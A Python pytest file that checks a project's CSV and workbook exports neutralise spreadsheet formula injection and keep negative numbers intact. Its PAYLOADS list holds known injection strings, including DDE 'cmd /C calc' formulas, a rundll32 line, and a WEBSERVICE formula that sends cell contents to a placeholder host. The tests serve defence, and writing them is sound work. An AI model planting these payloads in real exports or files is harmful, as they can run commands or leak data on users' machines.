"""No cell that we write is run by a spreadsheet, whatever it holds; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from masker_rules.facts.exports import rows_csv, rows_xlsx

#: What begins a formula, and the wide forms of these.
SIGNS = "=+-@\u2212\uff1d\uff0b\uff0d\uff20"
#: Of OWASP's page on CSV injection and of lists of payloads that are passed around.
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "-@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.invalid","x")', '-HYPERLINK("https://example.invalid")',
    '=WEBSERVICE("https://example.invalid/"&A1)', '=IMPORTXML("https://example.invalid","//a")',
    '=DDE("cmd";"/C calc";"x")', "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=2+5+cmd|'/C calc'!A0", "=AND(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  -1+1",
    "\u00a0=1+1",
    '"=1+1', '"\t-1+1', "\x00=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\x1b-1+1",
    "\u3000=1+1", "\x0b@A1", *(f"{sign}1+1" for sign in SIGNS),
    "﹦1+1", "﹢1+1", "﹣1+1", "﹫A1", "-",
    "--1", "-A1", "+62811", "-5e3", "-(1)", "=", "@", "-\uff15", "-5-5", "-5 ", "-.5", "-5%+A1",
    "%0A-3+3+cmd|' /C calc'!D2".replace("%0A", "\n"),
]  # fmt: skip
NUMBERS = [-5, 5, 0, "-5", "-5.25", "5", "4000000.00", "-4000000.00", "198501012010011001"]
PLAIN = ["", "Nur Aini", "O'Neill-Sari", "a=b", "x+y", "siti@example.invalid", "– tidak –"]


def is_run(cell):
    """Whether a spreadsheet might run it, judged without our own code."""
    bare = cell.lstrip(' \t\r\n\v\f"\u00a0\u3000\u200b\u202e\ufeff\x00\x1b␣')
    return bool(bare) and bare[0] in f"{SIGNS}﹦﹢﹣﹫"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_when_it_begins_like_a_formula_then_csv_and_workbook_hold_a_text(payload):
    openpyxl = pytest.importorskip("openpyxl")
    rows = [{payload: payload, "name": payload}]
    head, [cell, name] = csv.reader(io.StringIO(rows_csv(rows), newline=""))
    assert cell == name
    assert not is_run(cell)
    assert not is_run(head[0])
    assert cell.startswith("'")
    sheet = openpyxl.load_workbook(io.BytesIO(rows_xlsx({"results": rows})))["results"]
    for at in ("A1", "A2", "B2"):
        assert sheet[at].data_type == "s"
        assert not is_run(sheet[at].value)


def test_number_when_below_zero_then_stays_one():
    rows = [{"value": value} for value in NUMBERS]
    [_, *cells] = csv.reader(io.StringIO(rows_csv(rows), newline=""))
    assert [cell for [cell] in cells] == [str(value) for value in NUMBERS]
    openpyxl = pytest.importorskip("openpyxl")
    sheet = openpyxl.load_workbook(io.BytesIO(rows_xlsx({"results": rows})))["results"]
    assert [cell.value for cell in sheet["A"]][1:] == NUMBERS


@pytest.mark.parametrize("text", PLAIN)
def test_text_when_no_formula_then_as_it_is(text):
    [_, [cell, _]] = csv.reader(io.StringIO(rows_csv([{"name": text, "at": 1}]), newline=""))
    assert cell == text


def test_limits_when_they_promise_then_the_signs_that_are_tested():
    page = (Path(__file__).parents[3] / "docs/reference/limits.md").read_text("utf-8")
    promise = page.partition("## What we write")[2].partition("##")[0]
    told = set(re.findall(r"`(.)`", promise))
    assert set(SIGNS) <= told
    assert {payload[0] for payload in PAYLOADS} >= set(SIGNS)
